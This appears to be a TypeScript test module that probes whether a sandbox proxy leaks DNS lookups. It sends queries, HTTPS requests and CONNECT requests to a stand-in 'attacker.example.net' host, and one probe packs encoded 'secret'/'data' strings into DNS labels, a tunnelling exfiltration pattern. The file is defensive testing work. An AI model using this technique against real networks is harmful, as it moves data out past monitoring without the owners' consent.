import type { ProxyAttempt } from '../plan/attempt';
import { group } from './group';

const EVERY_TYPE = [
  1, 2, 5, 6, 12, 13, 15, 16, 28, 29, 33, 35, 39, 43, 48, 50, 52, 64, 65, 99, 250, 252, 255, 256, 257,
];
const DATA = `${'c2VjcmV0'.repeat(7)}.${'ZGF0YQ'.repeat(9)}`;

/** The mark of the attempt is a label of each name, in lower case as names are. */
const asked: ProxyAttempt['through'] = ({ asked: [first] }) =>
  first && `a resolver was asked: ${first.slice(0, 60)}`;

/** Questions to the box's resolver, which answers everything and asks nobody. */
export const NAMES = group(
  {
    group: 'DNS through the proxy box',
    law: 'NET-3',
    heldBy: 'the box answers every name with its own address, and passes none on',
    mustFailIn: ['names'],
    through: asked,
  },
  [
    {
      id: 'N01',
      title: 'data in the labels of a name',
      run: ({ own }) => [
        { probe: { do: 'dns', to: own, name: `${DATA}.@token@.attacker.example.net`, types: [1] } },
      ],
    },
    {
      id: 'N02',
      title: `${EVERY_TYPE.length} question types`,
      run: ({ own }) => [
        { probe: { do: 'dns', to: own, name: '@token@.attacker.example.net', types: EVERY_TYPE } },
      ],
    },
    {
      id: 'N03',
      title: `${EVERY_TYPE.length} question types over TCP`,
      run: ({ own }) => [
        {
          probe: {
            do: 'dns',
            to: own,
            name: '@token@.attacker.example.net',
            types: EVERY_TYPE,
            stream: true,
          },
        },
      ],
    },
    {
      id: 'N04',
      title: 'a name that nobody has, over HTTPS, so that the box must look it up',
      heldBy: 'no rule names the host: nothing is looked up for it',
      mustFailIn: ['hosts'],
      run: ({ own }) => [
        {
          exchange: {
            to: own,
            port: 443,
            tls: { sni: '@token@.attacker.example.net' },
            send: ['GET / HTTP/1.1\r\nHost: @token@.attacker.example.net\r\nConnection: close\r\n\r\n'],
          },
        },
      ],
    },
    {
      id: 'N05',
      title: 'a name that nobody has, through CONNECT',
      heldBy: 'no rule names the host: nothing is looked up for it',
      mustFailIn: ['hosts'],
      run: ({ own }) => [
        {
          exchange: {
            to: own,
            port: 8080,
            before: {
              send: 'CONNECT @token@.attacker.example.net:443 HTTP/1.1\r\nHost: @token@.attacker.example.net:443\r\n\r\n',
              until: 'head',
            },
            tls: { sni: '@token@.attacker.example.net' },
            send: ['GET / HTTP/1.1\r\nHost: @token@.attacker.example.net\r\nConnection: close\r\n\r\n'],
          },
        },
      ],
    },
  ],
);
